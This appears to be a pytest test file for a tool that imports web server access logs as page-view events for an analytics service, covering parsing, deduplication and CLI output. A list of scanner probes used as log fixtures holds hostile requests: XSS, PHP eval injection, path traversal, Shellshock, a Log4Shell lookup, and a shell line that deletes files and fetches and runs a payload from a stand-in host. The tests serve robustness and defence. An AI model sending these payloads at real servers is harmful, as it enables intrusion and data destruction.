import gzip
import itertools
import os
from collections.abc import Iterator, Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from infra_cdk.local import cli
from infra_cdk.local.commands import data
from infra_cdk.local.tools import history, import_log, page_views
from infra_cdk.local.tools.access_log import Unread
from infra_cdk.local.tools.import_log import Import
from infra_cdk.local.tools.log_files import LogFile
from infra_cdk.local.tools.page_views import NoView
from pixeltrack.events.wire import RawEvent
from pixeltrack.platform.consumer import Record
from pixeltrack.platform.instants import wall_ms
from pixeltrack.platform.ports import Message
from pixeltrack.sites.sites import Identity
from tests.fakes.processing import processor
from tests.fakes.records import TRACKING_ID, site

LINE = '{ip} - - [{time}] "{request} HTTP/1.1" {status} 5 "{referrer}" "{agent}"\n'
USUAL = {
    "ip": "192.0.2.7",
    "time": "17/May/2015:10:05:03 +0000",
    "request": "GET /blog/",
    "status": "200",
    "referrer": "http://www.google.com/",
    "agent": "Mozilla/5.0",
}


def line(**changes: str) -> str:
    return LINE.format(**(USUAL | changes))


def written(path: Path, *lines: str | bytes) -> LogFile:
    path.write_bytes(b"".join(x if isinstance(x, bytes) else x.encode() for x in lines))
    return LogFile(path.name, path)


def log(path: Path, *lines: str | bytes, key: bytes = b"k", **settings: Any) -> Import:
    return Import([written(path, *lines)], site(**settings), key)


def visitors(found: Import) -> list[str | None]:
    return [event.event.user_id for event in found.events()]


def test_a_page_view_keeps_its_date_and_names_its_line(tmp_path: Path) -> None:
    found = log(tmp_path / "log", "nonsense\n", line())
    (event,) = found.events()
    assert isinstance(event, RawEvent)
    assert (event.ip, event.user_agent) == ("192.0.2.7", "Mozilla/5.0")
    wire = event.event
    assert (wire.site_id, wire.event_type, wire.url) == (
        TRACKING_ID,
        "pageview",
        "https://example.com/blog/",
    )
    assert (wire.referrer, wire.timestamp) == ("http://www.google.com/", "2015-05-17T10:05:03.000Z")
    assert (found.views, found.left_out) == (1, {Unread.UNREADABLE: 1})


def test_ids_and_visitors_are_those_of_earlier_imports(tmp_path: Path) -> None:
    # As they have been since history could be imported: who repeats an import changes nothing.
    found = log(tmp_path / "log", "nonsense\n", line(), line(request="GET /a.png"), line())
    events = [event.event for event in found.events()]
    assert [event.id for event in events] == ["import:ae5ff582612c:2", "import:ae5ff582612c:4"]
    assert {event.user_id for event in events} == {"b0877e43ca38a8cd42cd32ae"}


def test_a_path_is_one_of_the_site(tmp_path: Path) -> None:
    for request, url in {
        "/a?b=c": "https://example.com/a?b=c",
        "//a/b": "https://example.com//a/b",
        "http://EXAMPLE.com:80/x": "https://example.com/x",
        "https://shop.example.com/x": "https://shop.example.com/x",
    }.items():
        (event,) = log(tmp_path / "log", line(request=f"GET {request}")).events()
        assert event.event.url == url
    proxied = log(tmp_path / "log", line(request="GET http://proxied.example/"))
    assert list(proxied.events()) == []
    assert proxied.left_out == {NoView.OTHER_HOST: 1}


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({}, None),
        ({"request": "GET /docs/v1.2"}, None),
        ({"request": "GET /a.png"}, NoView.NO_PAGE),
        ({"request": "HEAD /"}, NoView.OTHER_METHOD),
        ({"status": "404"}, NoView.OTHER_STATUS),
        ({"request": "nothing"}, Unread.NO_REQUEST),
        ({"time": "some day"}, Unread.NO_INSTANT),
        ({"time": "17/May/2115:10:05:03 +0000"}, NoView.AHEAD),
        ({"request": "GET /" + "a" * 5_000}, "url is longer than 2048 characters"),
        ({"request": "GET /?" + "a" * 5_000}, None),
        ({"request": "GET /%00"}, "url must not contain NUL (%00)"),
        ({"request": r"GET /\x00"}, "url must not contain NUL"),
        ({"request": "GET /" + "\x7f" * 2_000}, NoView.BAD_ADDRESS),
        ({"referrer": "http://a.example/?" + "a" * 5_000}, None),
        ({"referrer": "http://a.example/" + "a" * 5_000}, None),
        ({"agent": "a" * 5_000}, None),
        ({"agent": r"\x00"}, None),
    ],
)
def test_what_counts_as_a_page_view(
    tmp_path: Path, changes: dict[str, str], reason: str | None
) -> None:
    text = line(**changes)
    found = log(tmp_path / "log", text, identity=Identity.COOKIELESS)
    events = list(found.events())
    assert len(events) == found.views == (0 if reason else 1)
    assert found.left_out == ({reason: 1} if reason else {})
    assert stored(events) == found.views, "what is said to be in is in"
    for example in found.examples.values():
        assert example.startswith("log:1: 192.0.2.7 - - [")
        assert example.isprintable()
        assert len(example) < 200


def stored(events: list[RawEvent]) -> int:
    """Return how many events the processor stores, by its own rules."""
    taken: list[Message] = []
    history.send(SimpleNamespace(publish=taken.extend), events, print)
    records = [Record(0, n, wall_ms(), message.value) for n, message in enumerate(taken)]
    outcomes = processor(now_ms=wall_ms)(records, "r").outcomes
    assert outcomes.total() == len(events)
    return outcomes["stored"] + outcomes["bot"]


def test_addresses_that_are_too_long_lose_what_the_tracker_takes_off(tmp_path: Path) -> None:
    long = "a" * 5_000
    lines = [line(request=f"GET /p?{long}", referrer=f"http://a.example/x?{long}", agent=long)]
    (event,) = log(tmp_path / "log", *lines).events()
    assert (event.event.url, event.event.referrer) == (
        "https://example.com/p",
        "http://a.example/x",
    )
    assert event.user_agent == long[:512]


def sums(files: Sequence[LogFile], **settings: Any) -> tuple[Any, ...]:
    found = Import(files, site(**settings), b"k")
    events = {event.event.id: event.event.url for event in found.events()}
    assert len(events) == found.views
    return events, found.views, found.left_out, found.formats, found.first_ms, found.last_ms


def test_logs_in_any_order_say_the_same(tmp_path: Path) -> None:
    fields = b"#Fields: sc-status c-ip time date cs-method cs-uri-stem cs(User-Agent)\n"
    files = [
        written(tmp_path / "a", line(), line(request="GET /a.png")),
        written(tmp_path / "b", fields, b"200\t192.0.2.7\t10:00:00\t2014-01-01\tGET\t/x\tA\n"),
        written(tmp_path / "c", gzip.compress(line(time="17/May/2016:10:05:03 +0000").encode())),
    ]
    first = sums(files)
    assert first[1] == 3
    assert (first[4], first[5]) == (1_388_570_400_000, 1_463_479_503_000)
    for order in itertools.permutations(files):
        assert sums(order) == first


def test_a_log_that_is_given_twice_counts_once(tmp_path: Path) -> None:
    text = line() + line(request="GET /a.png")
    once = written(tmp_path / "a", text)
    packed = written(tmp_path / "a.gz", gzip.compress(text.encode()))
    found = Import([once, packed, once], site(), b"k")
    assert len(list(found.events())) == found.views == 1
    assert found.left_out.total() == 1
    assert found.repeated == ["a.gz", "a"]


def test_paths_are_left_out_by_pattern(tmp_path: Path) -> None:
    file = written(tmp_path / "log", line(request="GET /admin/x?a"), line())
    found = Import([file], site(), b"k", page_views.compiled(["/admin/*"]))
    assert [event.event.url for event in found.events()] == ["https://example.com/blog/"]
    assert found.left_out == {NoView.LEFT_OUT: 1}


# What scanners send, as Apache and nginx write it down.
PROBES = [
    r"GET /?q=\"><script>alert(1)</script> HTTP/1.1",
    r"GET /index.php?s=/Index/\think\app/invokefunction&x=<?php eval($_POST[\"a\"]);?> HTTP/1.1",
    "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1",
    "GET /a b/c d.php HTTP/1.1",
    "GET / HTTP/1.0",
    "GET /",
    "GET http://93.184.216.34/ HTTP/1.1",
    "GET https://example.com/ HTTP/1.1",
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1",
    r"GET /\xd1\x82\xff\xfe HTTP/1.1",
    "GET /../../../etc/passwd HTTP/1.1",
    "GET ../../etc/passwd HTTP/1.1",
    "GET /.env HTTP/1.1",
    "GET /.git/config HTTP/1.1",
    "GET /wp-login.php HTTP/1.1",
    "POST /xmlrpc.php HTTP/1.1",
    "HEAD / HTTP/1.1",
    "OPTIONS * HTTP/1.1",
    "OPTIONS / RTSP/1.0",
    "CONNECT google.com:443 HTTP/1.1",
    "PROPFIND / HTTP/1.1",
    "PRI * HTTP/2.0",
    r"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\"\\\xf1 \x9a GET",
    r"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    r"\x04\x01\x00P\x05\xbc\xd2\xe3\x00",
    r"\n",
    "",
    "-",
    "\\",
    "SSH-2.0-Go",
    "t3 12.1.2",
    r"GET /\\\"\\ HTTP/1.1",
    "GET /" + "A" * 9_000 + " HTTP/1.1",
    "GET /?" + "A" * 9_000 + " HTTP/1.1",
    "GET HTTP/1.1 HTTP/1.1",
    "GET  /  HTTP/1.1",
    "\x01\x02 \xe9 odd",
]
WHO = [
    "192.0.2.1 - -",
    "192.0.2.1 - John Doe",
    r"::1 - a\"b [c]",
    "dial.example - -",
    "192.0.2.1 - ",
]
AFTER = [
    '400 0 "-" "-"',
    '200 10 "https://forum.example.org/?q=\\"tea\\"" "Lenovo Tab 10\\" Build/X"',
    '200 - "() { :; }; /bin/bash -c \\"id\\"" "${jndi:ldap://192.0.2.1/\\\\a}"',
    r'404 5 "\xd1\x82" "\xff\xfe\\"',
    '304 0 "" "Mozilla/5.0 (X; \u0442) \xe9" "-"',
]


def scanner_log() -> Iterator[bytes]:
    for who, request, after in itertools.product(WHO, PROBES, AFTER):
        text = f'{who} [24/Nov/2025:12:00:00 +0000] "{request}" {after}\n'
        yield text.encode("latin-1", "backslashreplace")


def test_a_scanner_s_log_is_read_whole(tmp_path: Path) -> None:
    lines = list(scanner_log())
    found = log(tmp_path / "log", *lines)
    events = list(found.events())
    assert stored(events) == found.views
    assert found.views + found.left_out.total() == len(lines) == 925
    assert Unread.UNREADABLE not in found.left_out
    assert Unread.NO_INSTANT not in found.left_out
    # By probe, of those five lines that were answered so that three could be views.
    paths = {event.event.url.removeprefix("https://example.com") for event in events}
    assert paths >= {
        '/?q="><script>alert(1)</script>',
        "/a b/c d.php",
        "/т\ufffd\ufffd",
        "/.env",
        '/\\"\\',
    }
    assert {event.event.referrer for event in events} >= {'https://forum.example.org/?q="tea"'}
    assert {event.user_agent for event in events} >= {
        'Lenovo Tab 10" Build/X',
        r"${jndi:ldap://192.0.2.1/\a}",
    }
    assert {event.ip for event in events} == {"192.0.2.1", "::1", "dial.example"}


@pytest.fixture
def imported(monkeypatch: pytest.MonkeyPatch) -> list[RawEvent]:
    """What the command sends, to a stack that is none."""
    sent: list[RawEvent] = []
    stack = SimpleNamespace(environ=dict, directory=Path())
    monkeypatch.setattr(os, "umask", lambda _: 0)
    monkeypatch.setattr(data, "running_stack", lambda _: stack)
    monkeypatch.setattr(data, "read_demo", lambda _: {"trackingId": TRACKING_ID})
    monkeypatch.setattr(import_log, "site_of", lambda *_: site())
    monkeypatch.setattr(import_log, "key_of", lambda _: b"k")
    monkeypatch.setattr(history, "raw_stream", lambda _: None)
    monkeypatch.setattr(history, "send", lambda _, events, __: sent.extend(events))
    monkeypatch.setattr(history, "wait_until_counted", lambda *_, **__: None)
    return sent


def said(printed: str) -> list[str]:
    return printed.rpartition("\033[K")[2].splitlines()


def test_the_command_says_what_is_in_and_what_is_not(
    tmp_path: Path, imported: list[RawEvent], capsys: pytest.CaptureFixture[str]
) -> None:
    late = line(time="18/May/2015:10:05:03 +0000")
    written(tmp_path / "a.log", line(), line(request="GET /a.png"), "\x1b[2Jodd \xe9\n", late)
    written(tmp_path / "b.log", line(request="GET /admin/"), line().partition(' "http')[0])
    command = ["import-log", str(tmp_path / "*.log"), "--exclude", "/admin*"]
    expected = [
        "        4 read as combined",
        "        1 read as common",
        "3 page views {} in, from 2015-05-17T10:05:03.000Z to 2015-05-18T10:05:03.000Z",
        "3 lines left out:",
        "        1 images, styles and other files, no pages",
        f"          {tmp_path}/a.log:2: {line(request='GET /a.png')[:-1]}",
        "        1 in no known format",
        f"          {tmp_path}/a.log:3: \\x1b[2Jodd é",
        "        1 paths that --exclude leaves out",
        f"          {tmp_path}/b.log:1: {line(request='GET /admin/')[:-1]}",
    ]
    assert cli.main([*command, "--dry-run"]) == 0
    assert said(capsys.readouterr().out) == [text.format("would be") for text in expected]
    assert imported == []
    assert cli.main(command) == 0
    assert said(capsys.readouterr().out) == [text.format("are") for text in expected]
    assert len(imported) == 3


def test_a_log_that_is_cut_off_is_said_so(
    tmp_path: Path, imported: list[RawEvent], capsys: pytest.CaptureFixture[str]
) -> None:
    whole = gzip.compress("".join(line(ip=f"192.0.2.{n}") for n in range(250)).encode(), 1)
    written(tmp_path / "a.gz", whole[:-40])
    assert cli.main(["import-log", str(tmp_path / "a.gz")]) == 1
    printed = said(capsys.readouterr().out)
    assert f"error: {tmp_path / 'a.gz'} ends too early or is damaged: " in printed[-2]
    assert "do not bring it in whole as well" in printed[-1]
    assert 0 < len(imported) < 250


@pytest.mark.parametrize(
    ("arguments", "fault"),
    [
        (["no.log"], "is no file"),
        (["/"], "is a folder"),
        (["-", "--exclude", "admin"], "begin with"),
    ],
)
def test_what_cannot_be_is_one_line(
    imported: list[RawEvent], capsys: pytest.CaptureFixture[str], arguments: list[str], fault: str
) -> None:
    assert cli.main(["import-log", *arguments]) == 1
    (said,) = capsys.readouterr().out.splitlines()
    assert said.startswith("error: ")
    assert fault in said
    assert imported == []
